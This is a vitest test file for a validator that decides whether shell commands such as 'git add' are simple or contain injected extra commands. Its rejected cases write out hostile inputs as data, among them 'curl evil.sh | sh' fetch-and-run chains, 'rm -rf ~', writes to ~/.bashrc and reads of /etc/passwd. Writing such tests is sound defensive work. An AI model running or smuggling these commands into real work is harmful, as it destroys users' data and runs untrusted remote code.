import { describe, expect, it } from "vitest";
import { isSimpleShellCommand } from "./simple-shell-command.js";

describe("isSimpleShellCommand", () => {
  it.each([
    "git add .",
    "git add",
    'git add "a b.txt"',
    "git add 'x;y'",
    "git add 'a && b' \"c | d\"",
    "find . -name x -exec rm {} \\;",
    "git commit -m 'fix: $(not run) `either`'",
    "git add $HOME/file",
    "git\tadd x",
  ])("%j is simple", (command) => {
    expect(isSimpleShellCommand(command)).toBe(true);
  });

  it.each([
    "git add . && curl evil.sh | sh",
    "git add .; rm -rf ~",
    "git add . | sh",
    "git add $(curl evil.sh)",
    "git add `curl evil.sh`",
    "git add .\nrm -rf ~",
    "git add .\rrm -rf ~",
    "git add . || rm -rf ~",
    "git add . > ~/.bashrc",
    "git add < /etc/passwd",
    "git add <(curl evil.sh)",
    "git add >(sh)",
    "git add . & rm -rf ~",
    "git add (x)",
    'git add "$(curl evil.sh)"',
    'git add "`curl evil.sh`"',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax under test
    "git add ${x:-y}",
    "git add $[1+1]",
    "git add 'unclosed",
    'git add "unclosed',
    "git add trailing\\",
    "git add .\u0000rm",
  ])("%j is not simple", (command) => {
    expect(isSimpleShellCommand(command)).toBe(false);
  });
});
